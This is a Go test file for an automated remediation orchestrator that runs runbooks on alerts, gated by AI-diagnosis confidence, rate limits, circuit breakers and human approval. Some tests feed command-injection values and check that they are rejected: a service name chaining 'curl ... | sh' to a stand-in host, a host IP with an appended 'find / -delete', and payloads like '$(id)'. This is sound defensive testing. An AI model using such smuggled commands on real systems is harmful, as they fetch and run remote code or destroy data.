package remediation

import (
	"context"
	"errors"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/qiniu/opsguard/internal/alerting/model"
	"github.com/qiniu/opsguard/internal/alerting/service/healthcheck"
	"github.com/qiniu/opsguard/internal/alerting/service/notify"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const testCatalog = `
runbooks:
  - name: clean_disk
    match_alert_types: [disk_usage]
    match_keywords: [disk]
    risk_level: auto
    cooldown: 10m
    commands: ["df -h", "find /tmp -type f -mtime +7 -delete"]
    verify_commands: ["df -h /"]
  - name: restart_service
    match_alert_types: [cpu_usage]
    risk_level: confirm
    commands: ["systemctl restart {service}"]
    verify_commands: ["systemctl is-active {service}"]
  - name: ping_host
    match_alert_types: [host_offline]
    risk_level: auto
    commands: ["ping -c 1 {ip}"]
`

type captureNotifier struct {
	mu  sync.Mutex
	got []notify.Notification
}

func (c *captureNotifier) Dispatch(_ context.Context, n notify.Notification) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.got = append(c.got, n)
	return nil
}

func (c *captureNotifier) has(kind notify.Kind) bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	for _, n := range c.got {
		if n.Kind == kind {
			return true
		}
	}
	return false
}

// scriptedExecutor succeeds unless the command is listed in fail.
type scriptedExecutor struct {
	mu   sync.Mutex
	fail map[string]bool
	ran  []string
}

func (s *scriptedExecutor) Run(_ context.Context, _ Target, command string) model.CommandResult {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.ran = append(s.ran, command)
	if s.fail[command] {
		return model.CommandResult{Command: command, Executed: true, ExitCode: 1}
	}
	return model.CommandResult{Command: command, Executed: true}
}

type memInsights struct {
	mu      sync.Mutex
	entries map[string][]string
}

func (m *memInsights) Record(_ context.Context, host, summary string) error {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.entries[host] = append([]string{summary}, m.entries[host]...)
	return nil
}

func (m *memInsights) Recent(_ context.Context, host string, n int) ([]string, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	e := m.entries[host]
	if len(e) > n {
		e = e[:n]
	}
	return append([]string(nil), e...), nil
}

func (m *memInsights) count(host string) int {
	m.mu.Lock()
	defer m.mu.Unlock()
	return len(m.entries[host])
}

const confidentAnswer = `{"root_cause":"disk filled by temp files","confidence":0.95,"reasoning":"df"}`

func newTestOrchestrator(t *testing.T, oracle Oracle) (*Orchestrator, *captureNotifier) {
	t.Helper()
	reg, err := LoadRegistry([]byte(testCatalog))
	require.NoError(t, err)
	n := &captureNotifier{}
	return &Orchestrator{
		Logs:              NewMemoryLogStore(),
		Registry:          reg,
		AI:                &AIClient{Oracle: oracle, Runbooks: reg.List()},
		Breaker:           NewMemoryCircuitBreaker(3, time.Hour),
		Limiter:           NewMemoryRateLimiter(),
		Executor:          DryRunExecutor{},
		Notifier:          n,
		Insights:          &memInsights{entries: map[string][]string{}},
		Observation:       NewMemoryObservationWindowManager(),
		ObservationWindow: time.Minute,
		MaxConcurrent:     2,
	}, n
}

func diskAlert() healthcheck.AlertMessage {
	return healthcheck.AlertMessage{
		AlertID:   11,
		HostID:    7,
		Host:      "web-1",
		HostIP:    "10.0.0.7",
		Type:      "disk_usage",
		Severity:  "warning",
		Message:   "disk_usage on web-1 is 93.00 (> 90)",
		RuleName:  "disk_high",
		Remediate: true,
	}
}

func TestHandle_EndToEndDryRun(t *testing.T) {
	o, n := newTestOrchestrator(t, &fakeOracle{answer: confidentAnswer})
	ctx := context.Background()

	res := o.Handle(ctx, diskAlert(), nil, "auto")
	require.NotNil(t, res)
	assert.True(t, res.Success)
	assert.False(t, res.Escalated)
	assert.Equal(t, model.RemediationSuccess, res.Status)
	assert.Equal(t, "clean_disk", res.Runbook)
	assert.Equal(t, model.RiskAuto, res.Risk)
	require.Len(t, res.CommandResults, 3)
	for _, r := range res.CommandResults {
		assert.False(t, r.Executed)
	}
	require.NotNil(t, res.VerificationPassed)
	assert.True(t, *res.VerificationPassed)

	lg, err := o.Logs.Get(ctx, res.LogID)
	require.NoError(t, err)
	assert.Equal(t, model.RemediationSuccess, lg.Status)
	assert.Equal(t, "auto", lg.TriggeredBy)
	assert.NotEmpty(t, lg.RunID)
	require.NotNil(t, lg.Diagnosis)
	assert.Equal(t, 0.95, lg.Diagnosis.Confidence)

	recent, _ := o.Limiter.RecentCount(ctx, "web-1")
	assert.Equal(t, 1, recent)
	w, _ := o.Observation.CheckObservation(ctx, "web-1")
	require.NotNil(t, w)
	assert.Equal(t, res.LogID, w.LogID)

	require.Eventually(t, func() bool { return n.has(notify.KindSuccess) }, time.Second, 10*time.Millisecond)
	ins := o.Insights.(*memInsights)
	require.Eventually(t, func() bool { return ins.count("web-1") == 1 }, time.Second, 10*time.Millisecond)
}

func TestHandle_CircuitBreakerOpen(t *testing.T) {
	oracle := &fakeOracle{answer: confidentAnswer}
	o, n := newTestOrchestrator(t, oracle)
	ctx := context.Background()
	for i := 0; i < 3; i++ {
		require.NoError(t, o.Breaker.RecordFailure(ctx, "web-1"))
	}

	res := o.Handle(ctx, diskAlert(), nil, "auto")
	assert.False(t, res.Success)
	assert.True(t, res.Escalated)
	assert.Contains(t, res.BlockedReason, "circuit breaker")
	assert.Nil(t, res.Diagnosis)
	assert.Equal(t, 0, oracle.calls)

	lg, err := o.Logs.Get(ctx, res.LogID)
	require.NoError(t, err)
	assert.Equal(t, model.RemediationEscalated, lg.Status)
	assert.Equal(t, ReasonBreakerOpen, lg.BlockedReason)
	require.Eventually(t, func() bool { return n.has(notify.KindEscalated) }, time.Second, 10*time.Millisecond)

	require.NoError(t, o.Breaker.RecordSuccess(ctx, "web-1"))
	assert.Equal(t, 0, o.Breaker.(*MemoryCircuitBreaker).Failures("web-1"))
}

func TestHandle_PolicyBlocks(t *testing.T) {
	tests := []struct {
		name   string
		answer string
		msg    func() healthcheck.AlertMessage
		reason string
		status model.RemediationStatus
	}{
		{
			name:   "no matching runbook",
			answer: confidentAnswer,
			msg: func() healthcheck.AlertMessage {
				m := diskAlert()
				m.Type, m.Message = "load_avg", "load is high"
				return m
			},
			reason: ReasonNoRunbook,
			status: model.RemediationEscalated,
		},
		{
			name:   "very low confidence blocks",
			answer: `{"root_cause":"?","confidence":0.2}`,
			msg:    diskAlert,
			reason: ReasonRiskBlock,
			status: model.RemediationEscalated,
		},
		{
			name:   "medium confidence needs approval",
			answer: `{"root_cause":"?","confidence":0.5}`,
			msg:    diskAlert,
			reason: ReasonAwaitApproval,
			status: model.RemediationPendingApproval,
		},
		{
			name:   "oracle garbage degrades to zero confidence",
			answer: "no idea, sorry",
			msg:    diskAlert,
			reason: ReasonRiskBlock,
			status: model.RemediationEscalated,
		},
		{
			name:   "unresolved placeholder",
			answer: confidentAnswer,
			msg: func() healthcheck.AlertMessage {
				m := diskAlert()
				m.Type, m.HostIP = "host_offline", ""
				return m
			},
			reason: ReasonUnresolvedParam + ": {ip}",
			status: model.RemediationEscalated,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			o, _ := newTestOrchestrator(t, &fakeOracle{answer: tt.answer})
			ex := &scriptedExecutor{}
			o.Executor = ex

			res := o.Handle(context.Background(), tt.msg(), nil, "auto")
			assert.False(t, res.Success)
			assert.True(t, res.Escalated)
			assert.Equal(t, tt.status, res.Status)
			assert.Equal(t, tt.reason, res.BlockedReason)
			assert.Empty(t, ex.ran)

			lg, err := o.Logs.Get(context.Background(), res.LogID)
			require.NoError(t, err)
			assert.Equal(t, tt.status, lg.Status)
		})
	}
}

func TestHandle_RateLimited(t *testing.T) {
	o, _ := newTestOrchestrator(t, &fakeOracle{answer: confidentAnswer})
	ctx := context.Background()

	first := o.Handle(ctx, diskAlert(), nil, "auto")
	require.True(t, first.Success)

	second := o.Handle(ctx, diskAlert(), nil, "auto")
	assert.False(t, second.Success)
	assert.True(t, second.Escalated)
	assert.True(t, strings.HasPrefix(second.BlockedReason, ReasonRateLimited+":"), second.BlockedReason)
}

func TestHandle_FailedStepHaltsAndTripsBreaker(t *testing.T) {
	o, n := newTestOrchestrator(t, &fakeOracle{answer: confidentAnswer})
	ex := &scriptedExecutor{fail: map[string]bool{"df -h": true}}
	o.Executor = ex
	ctx := context.Background()

	res := o.Handle(ctx, diskAlert(), nil, "auto")
	assert.False(t, res.Success)
	assert.False(t, res.Escalated)
	assert.Equal(t, model.RemediationFailed, res.Status)
	assert.Equal(t, []string{"df -h"}, ex.ran)
	assert.Nil(t, res.VerificationPassed)
	assert.Equal(t, 1, o.Breaker.(*MemoryCircuitBreaker).Failures("web-1"))
	w, _ := o.Observation.CheckObservation(ctx, "web-1")
	assert.Nil(t, w)
	require.Eventually(t, func() bool { return n.has(notify.KindFailure) }, time.Second, 10*time.Millisecond)
}

func TestHandle_VerificationFailure(t *testing.T) {
	o, _ := newTestOrchestrator(t, &fakeOracle{answer: confidentAnswer})
	o.Executor = &scriptedExecutor{fail: map[string]bool{"df -h /": true}}

	res := o.Handle(context.Background(), diskAlert(), nil, "auto")
	assert.False(t, res.Success)
	assert.Equal(t, model.RemediationFailed, res.Status)
	require.NotNil(t, res.VerificationPassed)
	assert.False(t, *res.VerificationPassed)
	assert.Len(t, res.CommandResults, 3)
}

func cpuAlert(service string) healthcheck.AlertMessage {
	return healthcheck.AlertMessage{
		AlertID:   21,
		HostID:    8,
		Host:      "api-1",
		HostIP:    "10.0.0.8",
		Type:      "cpu_usage",
		Severity:  "critical",
		Message:   "cpu_usage on api-1 is 97.00 (> 90)",
		RuleName:  "cpu_high",
		Labels:    map[string]string{"service": service},
		Remediate: true,
	}
}

func TestApprove(t *testing.T) {
	o, n := newTestOrchestrator(t, &fakeOracle{answer: confidentAnswer})
	ex := &scriptedExecutor{}
	o.Executor = ex
	ctx := context.Background()

	pending := o.Handle(ctx, cpuAlert("nginx"), nil, "auto")
	require.Equal(t, model.RemediationPendingApproval, pending.Status)
	assert.Equal(t, ReasonAwaitApproval, pending.BlockedReason)
	assert.Empty(t, ex.ran)
	require.Eventually(t, func() bool { return n.has(notify.KindApproval) }, time.Second, 10*time.Millisecond)

	res, err := o.Approve(ctx, pending.LogID, "alice")
	require.NoError(t, err)
	assert.True(t, res.Success)
	assert.Equal(t, model.RemediationSuccess, res.Status)
	assert.Equal(t, []string{"systemctl restart nginx", "systemctl is-active nginx"}, ex.ran)

	lg, err := o.Logs.Get(ctx, pending.LogID)
	require.NoError(t, err)
	assert.Equal(t, "alice", lg.Approver)
	assert.Equal(t, model.RemediationSuccess, lg.Status)
	assert.Empty(t, lg.BlockedReason)

	_, err = o.Approve(ctx, pending.LogID, "bob")
	assert.True(t, errors.Is(err, ErrNotPendingApproval))
}

func TestApprove_RechecksSafety(t *testing.T) {
	o, _ := newTestOrchestrator(t, &fakeOracle{answer: confidentAnswer})
	ex := &scriptedExecutor{}
	o.Executor = ex
	ctx := context.Background()

	pending := o.Handle(ctx, cpuAlert("nginx && curl -s http://x/y | sh"), nil, "auto")
	require.Equal(t, model.RemediationPendingApproval, pending.Status)

	res, err := o.Approve(ctx, pending.LogID, "alice")
	require.NoError(t, err)
	assert.False(t, res.Success)
	assert.True(t, res.Escalated)
	assert.Equal(t, ReasonUnsafeParam+": {service}", res.BlockedReason)
	assert.Empty(t, ex.ran)
}

func TestApprove_RechecksCooldown(t *testing.T) {
	o, _ := newTestOrchestrator(t, &fakeOracle{answer: `{"root_cause":"?","confidence":0.5}`})
	ex := &scriptedExecutor{}
	o.Executor = ex
	ctx := context.Background()

	pending := o.Handle(ctx, diskAlert(), nil, "auto")
	require.Equal(t, model.RemediationPendingApproval, pending.Status)

	// clean_disk runs on the same host before the operator answers
	require.NoError(t, o.Limiter.Record(ctx, "web-1", "clean_disk"))

	res, err := o.Approve(ctx, pending.LogID, "alice")
	require.NoError(t, err)
	assert.False(t, res.Success)
	assert.True(t, strings.HasPrefix(res.BlockedReason, ReasonRateLimited+":"), res.BlockedReason)
	assert.Empty(t, ex.ran)
}

func TestHandle_InjectedHostIPIsRejected(t *testing.T) {
	o, _ := newTestOrchestrator(t, &fakeOracle{answer: confidentAnswer})
	ex := &scriptedExecutor{}
	o.Executor = ex

	msg := diskAlert()
	msg.Type, msg.HostIP = "host_offline", "10.0.0.7; find /tmp / -delete"
	res := o.Handle(context.Background(), msg, nil, "auto")
	assert.False(t, res.Success)
	assert.True(t, res.Escalated)
	assert.Equal(t, ReasonUnsafeParam+": {ip}", res.BlockedReason)
	assert.Empty(t, ex.ran)
}

type staticOracle string

func (s staticOracle) Complete(context.Context, string, string) (string, error) {
	return string(s), nil
}

// gatedExecutor blocks every step until release is closed.
type gatedExecutor struct {
	release chan struct{}
	mu      sync.Mutex
	ran     []string
}

func (g *gatedExecutor) Run(ctx context.Context, _ Target, command string) model.CommandResult {
	g.mu.Lock()
	g.ran = append(g.ran, command)
	g.mu.Unlock()
	<-g.release
	return model.CommandResult{Command: command, Executed: true}
}

func (g *gatedExecutor) count(command string) int {
	g.mu.Lock()
	defer g.mu.Unlock()
	n := 0
	for _, c := range g.ran {
		if c == command {
			n++
		}
	}
	return n
}

func TestHandle_ConcurrentAlertsRunRunbookOnce(t *testing.T) {
	o, _ := newTestOrchestrator(t, staticOracle(confidentAnswer))
	ex := &gatedExecutor{release: make(chan struct{})}
	o.Executor = ex
	ctx := context.Background()

	results := make(chan *Result, 2)
	for i := 0; i < 2; i++ {
		go func() { results <- o.Handle(ctx, diskAlert(), nil, "auto") }()
	}

	// the executing run is parked in the executor, so the first result is the loser
	var loser *Result
	select {
	case loser = <-results:
	case <-time.After(5 * time.Second):
		t.Fatal("no handler finished")
	}
	close(ex.release)
	winner := <-results

	assert.False(t, loser.Success)
	assert.True(t, strings.HasPrefix(loser.BlockedReason, ReasonRateLimited+":"), loser.BlockedReason)
	assert.True(t, winner.Success)
	assert.Equal(t, 1, ex.count("df -h"))
}

func TestApprove_BreakerOpenedMeanwhile(t *testing.T) {
	o, _ := newTestOrchestrator(t, &fakeOracle{answer: confidentAnswer})
	ctx := context.Background()

	pending := o.Handle(ctx, cpuAlert("nginx"), nil, "auto")
	for i := 0; i < 3; i++ {
		require.NoError(t, o.Breaker.RecordFailure(ctx, "api-1"))
	}
	res, err := o.Approve(ctx, pending.LogID, "alice")
	require.NoError(t, err)
	assert.Equal(t, ReasonBreakerOpen, res.BlockedReason)
	assert.Equal(t, model.RemediationEscalated, res.Status)
}

func TestReject(t *testing.T) {
	o, _ := newTestOrchestrator(t, &fakeOracle{answer: confidentAnswer})
	ctx := context.Background()

	pending := o.Handle(ctx, cpuAlert("nginx"), nil, "auto")
	lg, err := o.Reject(ctx, pending.LogID, "carol")
	require.NoError(t, err)
	assert.Equal(t, model.RemediationRejected, lg.Status)
	assert.Equal(t, "carol", lg.Approver)

	_, err = o.Reject(ctx, pending.LogID, "carol")
	assert.True(t, errors.Is(err, ErrNotPendingApproval))
	_, err = o.Approve(ctx, pending.LogID, "carol")
	assert.True(t, errors.Is(err, ErrNotPendingApproval))

	_, err = o.Reject(ctx, 999, "carol")
	assert.True(t, errors.Is(err, model.ErrNotFound))
}

func TestStart_SkipsNonRemediableAndWatchesObservation(t *testing.T) {
	o, _ := newTestOrchestrator(t, &fakeOracle{answer: confidentAnswer})
	ctx := context.Background()

	first := o.Handle(ctx, diskAlert(), nil, "auto")
	require.True(t, first.Success)

	ch := make(chan healthcheck.AlertMessage, 4)
	again := diskAlert()
	again.AlertID, again.Remediate = 12, false
	ch <- again
	other := cpuAlert("nginx")
	ch <- other
	close(ch)

	o.Start(ctx, ch)

	assert.Equal(t, 1, o.Breaker.(*MemoryCircuitBreaker).Failures("web-1"))
	w, _ := o.Observation.CheckObservation(ctx, "web-1")
	assert.Nil(t, w)

	// only the cpu alert produced a new log
	_, err := o.Logs.Get(ctx, first.LogID+1)
	require.NoError(t, err)
	_, err = o.Logs.Get(ctx, first.LogID+2)
	assert.True(t, errors.Is(err, model.ErrNotFound))
}

func TestStart_StopsOnCancel(t *testing.T) {
	o, _ := newTestOrchestrator(t, &fakeOracle{answer: confidentAnswer})
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() {
		o.Start(ctx, make(chan healthcheck.AlertMessage))
		close(done)
	}()
	cancel()
	select {
	case <-done:
	case <-time.After(time.Second):
		t.Fatal("orchestrator did not stop")
	}
}

func TestResolve(t *testing.T) {
	vars := map[string]string{"host": "web-1", "service": "nginx"}
	out, err := Resolve("systemctl restart {service} # {host}", vars)
	require.NoError(t, err)
	assert.Equal(t, "systemctl restart nginx # web-1", out)

	_, err = Resolve("docker restart {container}", vars)
	require.Error(t, err)
	assert.Contains(t, err.Error(), "{container}")

	out, err = Resolve("uptime", nil)
	require.NoError(t, err)
	assert.Equal(t, "uptime", out)

	for _, v := range []string{"nginx; reboot", "a b", "$(id)", "x|sh", "`id`", "a&&b", "a>b"} {
		_, err = Resolve("systemctl restart {service}", map[string]string{"service": v})
		var unsafe *unsafeValueError
		assert.True(t, errors.As(err, &unsafe), v)
	}
	out, err = Resolve("ping -c 1 {ip}", map[string]string{"ip": "fe80::1"})
	require.NoError(t, err)
	assert.Equal(t, "ping -c 1 fe80::1", out)
}
